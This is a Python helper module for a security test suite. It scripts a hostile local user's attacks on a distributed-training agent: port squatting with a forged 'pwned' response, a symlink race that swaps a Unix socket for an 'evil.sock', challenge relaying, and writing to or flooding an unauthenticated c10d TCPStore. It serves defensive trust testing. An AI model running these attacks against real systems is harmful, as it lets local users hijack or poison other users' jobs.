"""What the hostile local user does, as functions run in a uid-65534 child (tests/foreign.py's
``run_as``): squat a port, flip a socket link. Stdlib only, and only modules already imported
here (the child cannot import from /root). Used by the trust tests and by
bench/security_findings.py, which loads this file by path so that it attacks any checkout.
"""

from __future__ import annotations

import os
import select
import socket
import threading
import time
from collections.abc import Callable
from typing import Any

#: What the squatter and the fake socket answer: a plausible agent body, so a CLI that sent its
#: request would print the forged result ('pwned').
FORGED = (b'{"ok": true, "rank": 0, "ranks": [], "status": "ok", "result": "\'pwned\'"}')


def _serve(srv: socket.socket, until: float, stop_file: str | None = None,
           between: Callable[[], None] | None = None) -> str:
    """Accept, record and answer every request on ``srv`` until ``until`` (or ``stop_file``
    appears), calling ``between`` between polls."""
    got, conns = b"", []
    while time.monotonic() < until and not (stop_file and os.path.exists(stop_file)):
        if between is not None:
            between()
        for s in select.select([srv, *conns], [], [], 0.0005 if between else 0.05)[0]:
            if s is srv:
                conns.append(srv.accept()[0])
                continue
            data = s.recv(65536)
            got += data
            if not data:
                conns.remove(s)
                s.close()
            elif b"\r\n\r\n" in data:
                s.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
                          b"content-length: %d\r\n\r\n%s" % (len(FORGED), FORGED))
    return got.decode("latin-1")


def squat(port: int, seconds: float, stop_file: str | None = None) -> str:
    """Listen on ``port`` on every address, dual-stack (so every spelling of this machine
    reaches it), for ``seconds`` or until ``stop_file`` appears; everything received, as
    text."""
    srv = socket.socket(socket.AF_INET6)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    srv.bind(("::", port))
    srv.listen(64)
    return _serve(srv, time.monotonic() + seconds, stop_file)


def flip(dir_: str, link: str, real: str, seconds: float) -> str:
    """Serve ``<dir_>-evil/evil.sock`` and flip ``link`` (the only socket name in ``dir_``)
    between ``real`` and it, until ``<dir_>-evil/stop`` appears (at most ``seconds``);
    everything received, as text."""
    os.mkdir(dir_, 0o755)
    os.mkdir(dir_ + "-evil", 0o755)
    evil = os.path.join(dir_ + "-evil", "evil.sock")
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(evil)
    os.chmod(evil, 0o777)
    srv.listen(64)
    n = [0]

    def one_flip() -> None:
        n[0] += 1
        tmp = f"{link}.{n[0] % 2}"
        try:
            os.unlink(tmp)
        except FileNotFoundError:
            pass
        os.symlink(real if n[0] % 2 else evil, tmp)
        os.replace(tmp, link)  # atomic: the link always exists, pointing one way or the other

    one_flip()
    return _serve(srv, time.monotonic() + seconds, os.path.join(dir_ + "-evil", "stop"),
                  one_flip)


def relay(listen: tuple[str, int], to: tuple[str, int], stop: threading.Event) -> None:
    """Forward every connection to ``listen`` to ``to``, byte for byte, both ways, until
    ``stop``: a squatter on one node passing a client's challenge to an agent on another."""
    srv = socket.create_server(listen)
    pairs: dict[socket.socket, socket.socket] = {}
    while not stop.is_set():
        for s in select.select([srv, *pairs], [], [], 0.1)[0]:
            if s is srv:
                a = srv.accept()[0]
                b = socket.create_connection(to)
                pairs[a], pairs[b] = b, a
                continue
            data = s.recv(65536) if s in pairs else b""
            if data:
                pairs[s].sendall(data)
            elif s in pairs:
                other = pairs.pop(s)
                pairs.pop(other, None)
                s.close()
                other.close()
    srv.close()
    for s in pairs:
        s.close()


def store_write(host: str, port: int, items: list[list[str]], big: list[Any] | None = None
                ) -> int:
    """Connect to a job's c10d TCPStore as a client and write ``items`` (``[key, value]``,
    keys as the store holds them, e.g. ``probe_agent/rank1``), then ``big``
    (``[prefix, count, bytes]``: that many values of that size, keys ``<prefix><i>``): a store
    rewritten or flooded by another user. The store has no authentication: reaching its port is
    enough. Uses the parent's torch.distributed, already imported (the child cannot import it);
    the number of keys written."""
    import sys
    from datetime import timedelta

    dist = sys.modules["torch.distributed"]
    st = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20),
                       wait_for_workers=False)
    for key, value in items:
        st.set(key, value)
    n = len(items)
    if big:
        prefix, count, size = big
        value = b"\0" * size
        for i in range(count):
            st.set(f"{prefix}{i}", value)
        n += count
    return n


def serve_page(port: int, html: str, seconds: float, stop_file: str) -> int:
    """Serve ``html`` for every GET on 127.0.0.1:``port`` (another port of the same site as a
    dashboard on 127.0.0.1) until ``stop_file`` appears; how many requests were answered."""
    srv = socket.create_server(("127.0.0.1", port))
    srv.settimeout(0.05)
    body = html.encode()
    n = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until and not os.path.exists(stop_file):
        try:
            conn = srv.accept()[0]
        except OSError:
            continue
        with conn:
            conn.settimeout(5)
            try:
                conn.recv(65536)
                conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n"
                             b"content-length: %d\r\n\r\n%s" % (len(body), body))
                n += 1
            except OSError:
                pass
    srv.close()
    return n
